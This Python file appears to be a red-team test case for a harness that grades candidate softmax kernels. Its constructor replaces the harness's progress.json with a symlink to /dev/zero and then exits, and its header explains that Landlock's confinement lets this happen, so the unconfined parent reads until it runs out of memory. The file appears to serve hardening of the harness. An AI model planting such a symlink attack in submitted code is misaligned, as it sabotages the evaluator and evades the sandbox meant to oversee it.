# problem: softmax
# attack: a symlink where the parent reads a dead worker's progress: /dev/zero, read whole into the caller
"""Symlinks are made freely in the candidate's own folders (Landlock checks where a link is made, not where
it points) and the parent follows them unconfined: progress.json -> /dev/zero makes the parent read without
end until it runs out of memory."""

import os

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        path = os.getcwd() + "-out/progress.json"
        try:
            os.unlink(path)
        except OSError:
            pass
        os.symlink("/dev/zero", path)
        os._exit(3)

    def forward(self, x):
        return torch.softmax(x, dim=-1)
